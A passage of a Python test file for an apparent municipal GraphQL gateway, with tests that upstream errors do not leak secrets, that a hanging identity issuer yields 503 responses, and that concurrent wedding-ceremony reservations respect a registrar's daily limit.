                {"name": "burgerservicenummer[0]", "code": GEHEIM, "reason": INTERN},
                {"name": f"{INTERN}?token={GEHEIM}", "code": "x", "reason": GEHEIM},
            ],
        },
        headers={"content-type": "application/problem+json"},
    )


async def test_an_upstream_4xx_gives_a_stable_code_and_only_the_names_the_gateway_sent(
    caplog: pytest.LogCaptureFixture,
) -> None:
    lekkend: dict[str, httpx.AsyncBaseTransport] = {"brp": httpx.MockTransport(_lekkende_brp)}
    async with production_gateway(upstreams=lekkend) as gateway:
        response = await post(
            gateway,
            {"query": PERSOON, "variables": {"b": ALLEENSTAAND[0]}},
            token=token("medewerker"),
        )
    (fout,) = response.json()["errors"]
    assert fout["extensions"]["code"] == "BRP_REJECTED"
    for verboden in (GEHEIM, "brp-intern", "Ongeldig verzoek", "token="):
        assert verboden not in response.text
    gelogd = [r.getMessage() for r in caplog.records if "BRP rejected" in r.getMessage()]
    assert gelogd and "Ongeldig verzoek" in gelogd[0]  # the upstream's words: in the log only


# --- an issuer that fails or hangs (issue 9, item 5) -------------------------------------------


async def test_a_hanging_issuer_at_a_cold_start_gives_503_with_a_code_not_401() -> None:
    released = asyncio.Event()

    async def hangt(request: httpx.Request) -> httpx.Response:
        await released.wait()
        return httpx.Response(500)

    hangend: dict[str, httpx.AsyncBaseTransport] = {"oidc": httpx.MockTransport(hangt)}
    async with production_gateway(upstreams=hangend) as gateway:
        antwoorden = await asyncio.gather(
            *(
                gateway.client.post(
                    "/graphql",
                    json={"query": "{ ik { burgerservicenummer } }"},
                    headers={"Authorization": f"Bearer {token('medewerker')}"},
                )
                for _ in range(8)
            )
        )
        assert not released.is_set()  # all answered while the one fetch still hangs
        released.set()
    for antwoord in antwoorden:
        assert "Traceback" not in antwoord.text and "login.example" not in antwoord.text
        assert antwoord.status_code == 503
        assert antwoord.json()["code"] == "IDENTITEIT_NIET_BESCHIKBAAR"
        assert antwoord.headers["retry-after"] == "5"


# --- capacity under concurrency (issue 9, item 3; the store's own test runs 20 per rule) -------


async def test_concurrent_reservations_of_one_babs_get_no_more_than_max_per_dag() -> None:
    # Daphne de Bruijn does 2 ceremonies a day (Wednesdays among others); six couples ask for
    # her at six different hours of one Wednesday, all at once.
    async with production_gateway() as gateway:

        async def reserveer_bij_daphne(bsn: str, uur: int) -> str:
            query = (
                'mutation { reserveer(invoer: {soort: HUWELIJK, ceremonietype: "UITGEBREID", '
                f'start: "2027-03-24T{uur:02d}:00:00+01:00", '
                'locatie: {locatieId: "gemeentehuis-raadzaal"}, '
                'ambtenaar: {ambtenaarId: "babs-daphne-de-bruijn"}}) { __typename } }'
            )
            response = await post(
                gateway, {"query": query}, token=token("burger", bsn), gestuurd=(bsn,)
            )
            assert "errors" not in response.json(), response.text
            return str(response.json()["data"]["reserveer"]["__typename"])

        uitkomsten = await asyncio.gather(
            *(reserveer_bij_daphne(bsn, 10 + n) for n, bsn in enumerate(ALLEENSTAAND))
        )
    assert uitkomsten.count("HuwelijkGewijzigd") == 2, uitkomsten
